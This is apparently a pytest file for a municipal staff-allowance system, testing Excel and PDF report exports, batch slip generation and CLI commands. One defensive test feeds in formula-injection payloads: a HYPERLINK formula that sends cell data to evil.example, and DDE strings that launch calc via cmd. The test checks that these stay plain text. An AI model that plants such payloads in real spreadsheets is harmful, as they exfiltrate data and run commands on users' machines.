"""Excel exports read back with openpyxl, and batch runs of PDFs (in this process and in a worker pool)."""

import datetime
import io
import os

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from ekinerja import settings
from ekinerja.models import Aktivitas, Rekap
from ekinerja.services import recap
from reports import batch, excel
from tests import factories as f
from tests.integration import documents_city as c

BASE = "https://ekinerja.example.go.id"


@pytest.fixture
def city(app, monkeypatch):
    return c.build(monkeypatch)


def sheet_of(export):
    return load_workbook(io.BytesIO(export.content)).active


def row_starting(sheet, text):
    """The number of the first row whose first cell is text."""
    return next(row[0].row for row in sheet.iter_rows() if row[0].value == text)


def pdf_text(content):
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def no_formulas(sheet):
    return all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# -- Excel ----------------------------------------------------------------------------------------


def test_nominatif_xlsx_has_title_rows_header_number_cells_and_totals(city):
    c.lock(city)
    rows, final = recap.month_recap(c.YEAR, c.MONTH, skpd_kode="DPKAD")
    export = excel.nominatif(city.dinas, c.YEAR, c.MONTH)
    assert export.final and export.filename == "rekap-tpp-2026-11-DPKAD.xlsx"
    sheet = sheet_of(export)
    titles = [sheet.cell(row=n, column=1).value for n in range(1, 6)]
    assert titles == [
        "PEMERINTAH KOTA BANDA ACEH",
        "DINAS PENGELOLAAN KEUANGAN",
        "DAFTAR NOMINATIF TAMBAHAN PENGHASILAN PEGAWAI (TPP)",
        "Bulan November 2026",
        "Final (periode dikunci)",
    ]
    header = row_starting(sheet, "No")
    labels = [cell.value for cell in sheet[header]]
    assert labels[:6] == ["No", "Nama", "NIP", "Gol.", "Jabatan", "Kelas"]
    assert labels[6:] == [
        "Capaian kinerja (%)",
        "Potongan disiplin (%)",
        "TPP kinerja (Rp)",
        "TPP disiplin (Rp)",
        "TPP diterima (Rp)",
    ]
    lines = [[cell for cell in sheet[header + n]] for n in range(1, len(rows) + 1)]
    for number, (line, row) in enumerate(zip(lines, rows, strict=True), start=1):
        assert line[0].value == number
        assert (line[1].value, line[2].value, line[3].value, line[4].value) == (
            row["nama"],
            row["nip"],
            row["golongan"],
            row["jabatan"],
        )
        assert line[2].data_type == "s"  # the NIP stays text
        assert line[5].value == row["kelas_jabatan"]
        for cell, name in ((line[6], "capaian_kinerja"), (line[7], "potongan_disiplin")):
            assert cell.data_type == "n" and cell.number_format == "0.00"
            assert cell.value == pytest.approx(float(row[name]))
        for cell, name in ((line[8], "tpp_kinerja"), (line[9], "tpp_disiplin"), (line[10], "tpp_diterima")):
            assert isinstance(cell.value, int) and cell.number_format == "#,##0"
            assert cell.value == row[name]
    staff = next(line for line in lines if line[2].value == city.staff.nip)
    assert [cell.value for cell in staff[6:]] == [100.0, 7.0, 1_800_000, 1_116_000, 2_916_000]
    total = sheet[header + len(rows) + 1]
    assert total[0].value == "JUMLAH (3 pegawai)"
    for cell, name in ((total[8], "tpp_kinerja"), (total[9], "tpp_disiplin"), (total[10], "tpp_diterima")):
        assert cell.value == sum(r[name] for r in rows) and cell.number_format == "#,##0"
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert "Bendahara Pengeluaran" in values and f"NIP {city.clerk.nip}" in values
    assert f"NIP {city.boss.nip}" in values and "Teuku Umar" in values
    assert no_formulas(sheet)


def test_nominatif_xlsx_of_an_open_month_says_draft(city):
    sheet = sheet_of(excel.nominatif(city.dinas, c.YEAR, c.MONTH))
    assert sheet.cell(row=5, column=1).value == "DRAFT - belum dikunci"


def test_hostile_text_is_written_as_text_never_as_a_formula(city):
    hostile = '=HYPERLINK("http://evil.example/"&A1,"klik")'
    job = f.jabatan(city.dinas, nama="+cmd|' /C calc'!A0", kelas_jabatan=5)
    person = f.pegawai(job, nama=hostile, golongan="II/a")
    Aktivitas.create(
        pegawai=person,
        tanggal=datetime.date(2026, 11, 2),
        uraian="@SUM(1+1)*cmd|' /C calc'!A0",
        keterangan="-2+3",
        volume=1,
        jam_mulai=datetime.time(8, 0),
        jam_selesai=datetime.time(9, 0),
        menit_diakui=60,
        status="DISETUJUI",
    )
    nominatif = sheet_of(excel.nominatif(city.dinas, c.YEAR, c.MONTH))
    cells = {cell.value: cell for row in nominatif.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (hostile, "+cmd|' /C calc'!A0"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert no_formulas(nominatif)
    lkh = sheet_of(excel.lkh(person, c.YEAR, c.MONTH))
    cells = {cell.value: cell for row in lkh.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (hostile, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"):
        assert cells[text].data_type == "s", text
    assert no_formulas(lkh)


def test_lkh_xlsx_has_date_time_and_number_cells_and_the_month_totals(city):
    c.lock(city)
    export = excel.lkh(city.staff, c.YEAR, c.MONTH)
    assert export.filename == f"lkh-2026-11-{city.staff.nip}.xlsx"
    sheet = sheet_of(export)
    assert sheet.cell(row=3, column=1).value == "LAPORAN KEGIATAN HARIAN (LKH)"
    header = row_starting(sheet, "No")
    assert [cell.value for cell in sheet[header]][:10] == [
        "No",
        "Tanggal",
        "Uraian kegiatan",
        "Jenis",
        "Mulai",
        "Selesai",
        "Volume",
        "Satuan",
        "Menit",
        "Status",
    ]
    first = sheet[header + 1]
    assert first[0].value == 1
    assert (
        first[1].value == datetime.datetime(2026, 11, 2) and first[1].is_date and first[1].number_format == "dd/mm/yyyy"
    )
    assert first[2].value == "Memverifikasi daftar gaji" and first[3].value == "Uraian tugas"
    assert (first[4].value, first[5].value) == (datetime.time(8, 0), datetime.time(12, 20))
    assert first[4].number_format == "hh:mm"
    assert (first[6].value, first[7].value, first[8].value, first[9].value) == (13, "dokumen", 260, "Disetujui")
    second = sheet[header + 2]
    assert (second[2].value, second[3].value, second[8].value) == ("Rapat koordinasi gaji", "Tugas tambahan", 75)
    entries = Aktivitas.select().where(Aktivitas.pegawai == city.staff.id).count()
    assert entries == 40
    assert sheet.cell(row=header + entries, column=2).value == datetime.datetime(2026, 11, 30)
    submitted = sheet[header + entries + 1]
    assert submitted[0].value == "Jumlah: 40 kegiatan, menit diajukan" and submitted[8].value == 6_700
    approved = sheet[header + entries + 2]
    assert approved[0].value == "Disetujui: 40 kegiatan, menit disetujui" and approved[8].value == 6_700
    figures = {row[0].value: row[3] for row in sheet.iter_rows(min_row=header + entries + 3) if row[0].value}
    assert figures["Menit diakui"].value == 6_400
    assert figures["Capaian kinerja (%)"].value == 100.0 and figures["Capaian kinerja (%)"].number_format == "0.00"
    assert no_formulas(sheet)


# -- batch runs -----------------------------------------------------------------------------------


def test_targets_follow_the_stored_recap_once_locked(city):
    open_month = batch.targets("slip", c.YEAR, c.MONTH, "DPKAD")
    assert open_month == sorted([city.boss.nip, city.staff.nip, city.clerk.nip])
    assert batch.targets("slip", c.YEAR, c.MONTH) == sorted(open_month + [city.stranger.nip])
    assert batch.targets("rekap", c.YEAR, c.MONTH) == ["DISDUK", "DPKAD"]
    assert batch.targets("rekap", c.YEAR, c.MONTH, "DPKAD") == ["DPKAD"]
    c.lock(city)
    # A newcomer after the lock is not in the stored recap of the month.
    f.pegawai(f.jabatan(city.dinas), mulai=datetime.date(2026, 11, 20))
    assert batch.targets("lkh", c.YEAR, c.MONTH, "DPKAD") == open_month


def test_batch_of_slips_in_a_worker_pool_writes_one_pdf_per_employee(app, city, tmp_path):
    c.lock(city)
    done = []
    run_settings = settings.batch(app, BASE)
    result = batch.run(
        run_settings, "slip", c.YEAR, c.MONTH, skpd_kode="DPKAD", out_dir=tmp_path, workers=2, progress=done.append
    )
    nips = sorted([city.boss.nip, city.staff.nip, city.clerk.nip])
    assert result.workers == 2 and not result.failed and not result.skipped
    assert sum(done) == 3
    assert sorted(os.listdir(tmp_path)) == [f"slip-2026-11-{nip}.pdf" for nip in nips]
    for nip in nips:
        text = pdf_text((tmp_path / f"slip-2026-11-{nip}.pdf").read_bytes())
        assert nip in text and "DRAFT" not in text
    # The locked month's slip carries the QR code and the short code, linked to the public base URL.
    body = (tmp_path / f"slip-2026-11-{city.staff.nip}.pdf").read_bytes()
    kode = Rekap.get(Rekap.nip == city.staff.nip, Rekap.berlaku).kode_verifikasi
    text = pdf_text(body).replace("\n", "")
    assert kode in text and f"{BASE}/verifikasi/{kode}" in text
    assert "Rp 2.916.000" in text and "30 November 2026" in text
    assert any(page.images for page in PdfReader(io.BytesIO(body)).pages)


def test_batch_in_this_process_keeps_the_bytes_and_marks_an_open_month(app, city):
    result = batch.run(settings.batch(app), "slip", c.YEAR, c.MONTH, skpd_kode="DISDUK", workers=1)
    assert result.workers == 1 and [o.filename for o in result.written] == [f"slip-2026-11-{city.stranger.nip}.pdf"]
    text = pdf_text(result.written[0].content)
    assert city.stranger.nip in text and "DRAFT - belum dikunci" in text and "Kode verifikasi" not in text


def test_slip_of_someone_without_a_position_is_skipped_not_failed(app, city):
    newcomer = f.pegawai(f.jabatan(city.dinas), mulai=datetime.date(2026, 12, 1))
    result = batch.run(settings.batch(app), "slip", c.YEAR, c.MONTH, keys=[newcomer.nip, city.staff.nip], workers=1)
    assert [o.key for o in result.skipped] == [newcomer.nip]
    assert [o.key for o in result.written] == [city.staff.nip] and not result.failed


def test_cli_writes_one_nominatif_per_skpd_with_a_final_count(runner, city, tmp_path):
    c.lock(city)
    out = tmp_path / "rekap"
    outcome = runner.invoke(args=["laporan", "rekap", "--periode", c.PERIODE, "--out", str(out), "--workers", "1"])
    assert outcome.exit_code == 0, outcome.output
    assert sorted(os.listdir(out)) == ["rekap-2026-11-DISDUK.pdf", "rekap-2026-11-DPKAD.pdf"]
    assert f"2 rekap ditulis ke {out}" in outcome.output
    text = pdf_text((out / "rekap-2026-11-DPKAD.pdf").read_bytes())
    assert city.staff.nip in text and "JUMLAH (3 pegawai)" in text


def test_cli_lkh_and_slip_of_one_skpd(runner, city, tmp_path):
    c.lock(city)
    outcome = runner.invoke(
        args=["laporan", "slip", "--periode", c.PERIODE, "--skpd", "DISDUK", "--out", str(tmp_path), "--base-url", BASE]
    )
    assert outcome.exit_code == 0, outcome.output
    assert f"1 slip ditulis ke {tmp_path}" in outcome.output
    kode = Rekap.get(Rekap.nip == city.stranger.nip, Rekap.berlaku).kode_verifikasi
    text = pdf_text((tmp_path / f"slip-2026-11-{city.stranger.nip}.pdf").read_bytes()).replace("\n", "")
    assert f"{BASE}/verifikasi/{kode}" in text
    outcome = runner.invoke(args=["laporan", "lkh", "--periode", c.PERIODE, "--skpd", "DISDUK", "--out", str(tmp_path)])
    assert outcome.exit_code == 0, outcome.output
    assert f"1 lkh ditulis ke {tmp_path}" in outcome.output
    assert sorted(os.listdir(tmp_path)) == [f"{kind}-2026-11-{city.stranger.nip}.pdf" for kind in ("lkh", "slip")]


def test_cli_refuses_a_bad_period_or_an_unknown_skpd(runner, city, tmp_path):
    outcome = runner.invoke(args=["laporan", "slip", "--periode", "2026-13", "--out", str(tmp_path)])
    assert outcome.exit_code != 0 and "--periode" in outcome.output
    outcome = runner.invoke(args=["laporan", "lkh", "--periode", c.PERIODE, "--skpd", "NOPE", "--out", str(tmp_path)])
    assert outcome.exit_code != 0 and "NOPE" in outcome.output
    assert os.listdir(tmp_path) == []
